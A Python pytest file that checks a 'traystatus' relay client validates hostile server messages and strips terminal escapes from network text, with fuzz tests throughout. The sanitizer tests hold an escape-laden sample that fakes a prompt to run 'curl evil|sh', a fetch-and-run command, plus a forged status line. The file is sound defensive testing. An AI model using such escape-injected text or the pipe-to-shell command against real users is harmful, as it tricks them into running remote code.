"""A traystatus server's messages are validated into our types (core/relay/_messages.py), and
text from the network is made printable (core/words/safetext.py). Pure: no network.

Every message is either a Status in our types or a ProtocolError saying why: never
another exception (which would stop the relay), never a Status that contradicts what the
server said, never a time without an offset (the tray's tooltip subtracts it from an
aware "now"), never raw control characters.
"""

from __future__ import annotations

import json
import time
import unicodedata
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from traystatus.app import texts
from traystatus.cli import watching
from traystatus.core.model.state import Problem, State, Status
from traystatus.core.model.upgrade import UpgradePhase
from traystatus.core.relay._messages import (
    PROGRESS,
    REVIEW,
    SERVER_TROUBLE,
    STATUS,
    SUMMARY,
    UPGRADE,
    Message,
    ProtocolError,
    parse_message,
)
from traystatus.core.words.safetext import MAX_CHARS, printable

NOW = datetime(2026, 12, 6, 4, 0, 30, tzinfo=UTC)
SINCE = "2026-12-06T04:00:00+00:00"
WHERE = "ws://relay.example:8765"


def msg(**kw: Any) -> dict[str, Any]:
    """A well-formed stable message, as ``traystatus serve`` sends it, with changes."""
    d: dict[str, Any] = {
        "stable": True, "state": "stable", "since": SINCE, "problem": None, "reason": "",
        "attempt": 0, "next_retry_at": None, "source": "installed", "review": None,
        "blocked_by_review": [], "note": "", "progress": None,
    }
    d.update(kw)
    return d


def parse(value: Any) -> Message:
    raw = value if isinstance(value, str) else json.dumps(value)
    return parse_message(raw, where=WHERE, now=NOW)


def refused(value: Any) -> str:
    with pytest.raises(ProtocolError) as info:
        parse(value)
    return str(info.value)


# -- the hostile relay's messages (../shared/repro/fakerelay.py) -----------------------------
@pytest.mark.parametrize(("value", "why"), [
    ("this is not json", "not JSON"),
    ("{", "not JSON"),
    ("[1,2,3]", "message: expected an object, got a list"),
    ("null", "message: expected an object, got null"),
    ("42", "message: expected an object, got a number"),
    ({"state": 5, "stable": "yes"}, "stable: expected true/false, got text"),
    ({"state": ["stable"]}, "stable: missing"),
    ({"stable": True, "state": ["stable"]}, "state: expected text, got a list"),
    (msg(since="2026-12-06T04:00:00"), 'since: "2026-12-06T04:00:00" has no UTC offset'),
    (msg(state="disconnected", stable=None, problem="unreachable", reason="x",
         next_retry_at="2026-12-06T04:00:00"), "next_retry_at: \"2026-12-06T04:00:00\" has no"),
    (msg(state="processing", stable=False, since="9999-12-31T23:59:59+00:00"),
     "since: 9999-12-31T23:59:59+00:00 is not plausible"),
    (msg(state="processing", stable=False, since="0001-01-01T00:00:00+00:00"),
     "since: 0001-01-01T00:00:00+00:00 is not plausible"),
    (msg(since="yesterday"), 'since: "yesterday" is not an ISO 8601 time'),
    (msg(review={"waiting": 5, "queued_behind": 1}),
     "review.waiting: expected a list, got a number"),
    (msg(review={"waiting": [{"id": 7, "slug": {"x": 1}}], "queued_behind": "many"}),
     "review.waiting[0].slug: expected text, got an object"),
    (msg(review={"waiting": [{"id": 7, "slug": "x"}], "queued_behind": "many"}),
     "review.queued_behind: expected a whole number, got text"),
    (msg(state="processing", stable=False, progress={"jobs": 5}),
     "progress.jobs: expected a list, got a number"),
    (msg(state="processing", stable=False,
         progress={"jobs": [{"id": "x", "state": "analysing_data", "pct": "abc"}],
                   "derive": {"phase": [], "total": "t", "completed": -5}, "text": 7}),
     "progress.jobs[0].id: expected a whole number, got text"),
    (msg(state="processing", stable=False,
         progress={"jobs": [{"id": 1, "state": "analysing_data", "pct": 140}]}),
     "progress.jobs[0].pct: 140 is out of range (0 to 100)"),
    (msg(state="processing", stable=False,
         progress={"derive": {"phase": "derive", "total": 5, "completed": -5}}),
     "progress.derive.completed: -5 is out of range"),
    (msg(note={"a": 1}, reason=["x"], attempt=1e308), "reason: expected text, got a list"),
    (msg(attempt=1e308), "attempt: expected a whole number, got a number"),
    (msg(state="disconnected", stable=None, problem="unreachable", reason="x",
         attempt=99999999999999999999999999), "attempt: 99999999999999999999999999 is out"),
    ('{"stable": true, "state": "stable", "attempt": NaN}', "not JSON"),
    ('{"stable": true, "state": "stable", "attempt": 1e400}', "not JSON"),
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    (msg(source="mars"), 'source: "mars" is not one of builtin, installed, relay'),
    (msg(problem="bogus", state="error", stable=None), 'problem: "bogus" is not one of'),
])
def test_a_malformed_message_says_what_is_wrong(value: Any, why: str) -> None:
    assert why in refused(value)


@pytest.mark.parametrize(("value", "why"), [
    ({"stable": True, "state": "processing"}, "stable: true contradicts state 'processing'"),
    ({"stable": False, "state": "stable"}, "stable: false contradicts state 'stable'"),
    ({"stable": None, "state": "stable"}, "stable: null contradicts state 'stable'"),
    ({"stable": True, "state": "error"}, "stable: true contradicts state 'error'"),
    ({"stable": True, "state": "unknown"}, 'state: "unknown" is not one of'),
    ({"stable": True}, "state: missing"),
    ({"state": "stable"}, "stable: missing"),
    (msg(problem="unreachable", reason="database lost"),
     "problem 'unreachable' contradicts state 'stable'"),
    (msg(reason="database lost"), "a reason ('database lost') contradicts state 'stable'"),
    (msg(state="processing", stable=False, problem="stale"),
     "problem 'stale' contradicts state 'processing'"),
    (msg(blocked_by_review=[7]), "blocked_by_review does not name the jobs of review"),
    (msg(review={"waiting": [{"id": 7, "slug": "x"}]}, blocked_by_review=[8]),
     "blocked_by_review does not name the jobs of review"),
    (msg(state="upgrading", stable=None),
     "state 'upgrading' contradicts upgrade None (upgrading exactly while an upgrade runs)"),
    (msg(state="upgrading", stable=None, upgrade={"phase": "completed", "id": 1}),
     "state 'upgrading' contradicts upgrade 'completed'"),
    (msg(upgrade={"phase": "running", "id": 1}), "state 'stable' contradicts upgrade 'running'"),
    (msg(state="upgrading", stable=False, upgrade={"phase": "running", "id": 1}),
     "stable: false contradicts state 'upgrading'"),
    (msg(upgrade={"phase": "sleeping", "id": 1}), 'upgrade.phase: "sleeping" is not one of'),
    (msg(upgrade={"phase": "scheduled"}), "upgrade.id: missing"),
    (msg(upgrade={"phase": "scheduled", "id": 1, "scheduled_at": "22:00"}),
     "upgrade.scheduled_at"),
])
def test_a_message_that_contradicts_itself_is_not_an_answer(value: Any, why: str) -> None:
    assert why in refused(value)


def test_well_formed_messages_are_answers() -> None:
    got = parse(msg()).status
    assert (got.state, got.since, got.source, got.message) == (
        State.STABLE, datetime.fromisoformat(SINCE), "relay", "")
    got = parse(msg(state="processing", stable=False, since="2026-12-06T05:00:00+01:00",
                    review={"waiting": [{"id": 7, "slug": "lu"}], "queued_behind": 2},
                    blocked_by_review=[7])).status
    assert got.state is State.PROCESSING
    assert got.since == datetime(2026, 12, 6, 4, 0, tzinfo=UTC)  # the offset kept, as UTC
    assert got.review is not None and got.review.text == (
        "Waiting for review: lu; 2 imports queued behind it")
    # a field a newer server adds is ignored, not refused
    assert parse(msg(import_endings_per_user={"1": []})).status.state is State.STABLE
    # the server's CONNECTING (before its first answer) is ours
    assert parse(msg(state="connecting", stable=None)).status.state is State.CONNECTING
    # StatBus upgrades: scheduled (a stable answer with its line), running, and running
    # while the server's database is down for the backup (the reason is ours, not its)
    got = parse(msg(upgrade={"phase": "scheduled", "id": 3, "name": "v2026.12.0",
                             "scheduled_at": "2026-12-06T22:00:00+01:00"})).status
    assert got.state is State.STABLE and got.upgrade is not None
    assert got.upgrade.phase is UpgradePhase.SCHEDULED and got.upgrade.name == "v2026.12.0"
    assert got.upgrade.scheduled_at == datetime(2026, 12, 6, 21, 0, tzinfo=UTC)
    running = {"phase": "running", "id": 3, "started_at": SINCE, "error": ""}
    got = parse(msg(state="upgrading", stable=None, upgrade=running)).status
    assert got.state is State.UPGRADING and got.upgrade is not None and got.upgrade.running
    assert got.problem is None and got.message == ""
    got = parse(msg(state="upgrading", stable=None, upgrade=running,
                    problem="connection_lost", reason="x")).status
    assert got.state is State.UPGRADING and got.problem is Problem.CONNECTION_LOST
    assert "it retries on its own" in got.message


def test_a_bad_summary_costs_the_summary_not_the_state() -> None:
    good = parse(msg(summary={"import_jobs_finished": 2, "analytics_tasks_completed": 5,
                              "duration_seconds": 62.0, "text": "x"}))
    assert good.summary is not None and good.summary.text.startswith(
        "2 imports and 5 analytics tasks finished in 1 min")
    for bad in ({"import_jobs_finished": "lots", "duration_seconds": "x", "text": 5},
                {"import_jobs_finished": [1], "analytics_tasks_completed": {"a": 1}}):
        got = parse(msg(summary=bad))
        assert got.status.state is State.STABLE
        assert got.summary is None
        assert got.summary_error.startswith("summary.")


# -- relayed trouble: the server's, with advice for the person at this end ------------------
def test_the_server_s_trouble_is_said_as_the_server_s() -> None:
    operator_advice = (
        "The server at db:5432 refused the login of ana: the password is wrong or the user "
        "does not exist (the server does not say which). Fix the password (your StatBus web "
        "password) or the user name in the profile.")
    got = parse(msg(state="error", stable=None, problem="auth_failed",
                    reason=operator_advice)).status
    assert got.state is State.ERROR and got.problem is Problem.AUTH_FAILED
    assert got.message == (
        f"The traystatus server at {WHERE} reports that it was refused by its database (its "
        "login); ask its administrator (nothing to change on this computer).")
    assert "password" not in got.message  # the operator's advice is not for this end
    got = parse(msg(state="disconnected", stable=None, problem="unreachable",
                    reason="no route", attempt=4,
                    next_retry_at="2026-12-06T04:01:00+00:00")).status
    assert got.message == (
        f"The traystatus server at {WHERE} reports that it cannot reach its database; it "
        "retries on its own; if this lasts, ask its administrator.")
    assert got.attempt == 4 and got.next_retry_at == datetime(2026, 12, 6, 4, 1, tzinfo=UTC)
    assert set(SERVER_TROUBLE) == set(Problem), "every Problem needs its relayed words"


# -- text from the network ------------------------------------------------------------------
def test_terminal_escapes_and_huge_texts_are_made_printable() -> None:
    evil = "\x1b[2J\x1b[31mYOUR PASSWORD IS WRONG, RUN curl evil|sh\x1b[0m\r\nfake line"
    assert printable(evil) == "YOUR PASSWORD IS WRONG, RUN curl evil|sh fake line"
    assert printable("a\x1b]0;title\x07b\x9b31mc\u202edef\ud800g\tz") == "abcdefg z"
    assert printable("ok: ünïcode ✓ 🙂") == "ok: ünïcode ✓ 🙂"
    started = time.perf_counter()
    huge = printable("A" * 3_000_000)
    assert time.perf_counter() - started < 0.5
    assert len(huge) == MAX_CHARS and huge.endswith("…")
    got = parse(msg(state="error", stable=None, problem="internal", reason=evil)).status
    assert "\x1b" not in got.message and "\r" not in got.message and "\n" not in got.message
    long = parse(msg(state="error", stable=None, problem="internal", reason="A" * 3_000_000))
    assert len(long.status.message) < 300
    assert len(parse(msg(note="x" * 100_000)).status.note) == MAX_CHARS
    got = parse(msg(note=evil, review={"waiting": [{"id": 1, "slug": evil}]},
                    blocked_by_review=[1])).status
    assert got.note == "YOUR PASSWORD IS WRONG, RUN curl evil|sh fake line"
    assert got.review is not None and got.review.waiting[0][1] == got.note
    with pytest.raises(ProtocolError) as info:
        parse(msg(state=evil))
    assert "\x1b" not in str(info.value)


# -- fuzz: every field, any JSON --------------------------------------------------------------
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.integers(min_value=-(10**30),
                                                             max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30)
    | st.sampled_from([SINCE, "2026-12-06T04:00:00", "9999-12-31T23:59:59+00:00", "stable",
                      "processing", "error", "disconnected", "connecting", "unreachable",
                      "analysing_data", "processing_data", "\x1b[31m"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner,
                                                                max_size=4),
    max_leaves=12,
)


VALID_PROGRESS = {
    "jobs": [{"id": 7, "slug": "lu", "state": "processing_data", "pct": 42, "total_rows": 10,
              "user_id": 3, "mine": True}],
    "derive": {"phase": "derive", "step": "derive_statistical_unit", "completed": 1,
               "total": 5},
    "text": "1 import (42 %)", "me": 3, "overall_pct": 42, "imports_pct": 42,
    "imports_running": 1, "imports_queued": 0,
}
VALID_REVIEW = {"waiting": [{"id": 7, "slug": "lu"}], "queued_behind": 2}
VALID_SUMMARY = {"since": SINCE, "until": SINCE, "import_jobs_finished": 1,
                 "import_jobs_failed": 0, "import_jobs_with_errors": 0,
                 "import_jobs_rejected": 0,
                 "import_jobs": [{"id": 7, "slug": "lu", "state": "finished",
                                  "error_count": 0, "warning_count": 1, "error": None,
                                  "ended_at": SINCE}],
                 "analytics_tasks_completed": 3, "analytics_tasks_failed": 0,
                 "duration_seconds": 5.0, "text": "x"}


def _printable(text: str) -> bool:
    return all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in text)


def _sound(value: Any, got: Message) -> None:
    """What every parsed message promises, whatever the server sent."""
    status = got.status
    assert isinstance(status, Status) and status.source == "relay"
    assert value["stable"] is {State.STABLE: True, State.PROCESSING: False}.get(status.state)
    if status.is_known:
        assert status.problem is None and status.message == ""
    for when in (status.since, status.next_retry_at):
        assert when is None or (when.tzinfo is not None and when <= NOW + timedelta(days=1))
    for text in (status.message, status.note):
        assert isinstance(text, str) and _printable(text) and len(text) <= 2 * MAX_CHARS
    if status.review is not None:
        assert all(isinstance(i, int) and _printable(s) for i, s in status.review.waiting)
    # the faces take it as it is: the tray's tooltip, the CLI's lines
    texts.tooltip(status, NOW)
    texts.tooltip(status, NOW + timedelta(hours=5))
    texts.needs_ticking(status)
    texts.progress_pct(status)
    watching.status_line(status)
    json.dumps(watching.status_object(status))
    if got.summary is not None:
        assert isinstance(got.summary.text, str)


VALID_UPGRADE = {"phase": "running", "id": 3, "name": "v1", "scheduled_at": SINCE,
                 "started_at": SINCE, "ended_at": None, "error": "", "text": "x"}


FIELDS = sorted(STATUS) + [f"progress.{k}" for k in sorted(PROGRESS)] + [
    f"upgrade.{k}" for k in sorted(UPGRADE)] + [
    f"review.{k}" for k in sorted(REVIEW)] + [f"summary.{k}" for k in sorted(SUMMARY)] + [
    "progress.jobs[0]", "review.waiting[0]", "summary.import_jobs[0]"]


@pytest.mark.parametrize("field", FIELDS)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=JSON, state=st.sampled_from(list(State)))
def test_fuzz_every_field(field: str, value: Any, state: State) -> None:
    stable = {State.STABLE: True, State.PROCESSING: False}.get(state)
    base = msg(state=state.value, stable=stable,
               problem="unreachable" if state in (State.DISCONNECTED, State.ERROR) else None,
               review=dict(VALID_REVIEW), blocked_by_review=[7],
               progress=dict(VALID_PROGRESS), summary=dict(VALID_SUMMARY),
               upgrade=dict(VALID_UPGRADE) if state is State.UPGRADING else None)
    if field.startswith("upgrade.") and base["upgrade"] is None:
        base["upgrade"] = {**VALID_UPGRADE, "phase": "scheduled"}
    head, _, rest = field.partition(".")
    if not rest:
        base[head] = value
    elif rest.endswith("[0]"):
        key = rest[:-3]
        base[head] = {**base[head], key: [value]}
    else:
        base[head] = {**base[head], rest: value}
    try:
        got = parse(base)
    except ProtocolError as ex:
        assert str(ex) and _printable(str(ex)) and len(str(ex)) < 600
        return
    _sound(base, got)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.sampled_from([*sorted(STATUS), "summary", "extra"]), JSON,
                       max_size=14))
def test_fuzz_whole_messages(value: dict[str, Any]) -> None:
    try:
        got = parse(value)
    except ProtocolError:
        return
    _sound(value, got)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200) | st.binary(max_size=200).map(
    lambda b: b.decode("utf-8", "surrogateescape")))
def test_fuzz_any_text(raw: str) -> None:
    try:
        got = parse_message(raw, where=WHERE, now=NOW)
    except ProtocolError:
        return
    _sound(json.loads(raw), got)


def test_the_tooltip_takes_any_time_it_is_given() -> None:
    """A naive time crashed the tray's tooltip (TypeError: can't subtract offset-naive and
    offset-aware datetimes); the parser refuses them, and the words do not crash either."""
    naive = datetime(2026, 12, 6, 4, 0, 0)
    status = Status(State.DISCONNECTED, since=naive, problem=Problem.UNREACHABLE,
                    message="x", next_retry_at=naive + timedelta(seconds=50))
    assert texts.tooltip(status, NOW).endswith("\nx. Retrying in 20 s.")
    assert "Processing for 0 s" in texts.tooltip(
        Status(State.PROCESSING, since=datetime(9999, 12, 31, 23, 59, tzinfo=UTC)), NOW)
    assert texts.local_hhmm(datetime(1, 1, 1, tzinfo=UTC)) in ("--:--", "00:00")


def test_doctor_lines_print_a_server_s_words_safely() -> None:
    from traystatus.core.model.checks import CheckResult, Level

    evil = "\x1b[2J\x1b[31mdatabase lost\r\nok    everything: fine\x1b[0m" + "A" * 5000
    line = CheckResult("server's database", Level.FAIL, evil, "ask\x07 its admin").line()
    assert line.startswith("FAIL  server's database: database lost ok    everything: fine")
    assert "\x1b" not in line and "\n" not in line and "\x07" not in line
    assert len(line) < 2 * MAX_CHARS + 100
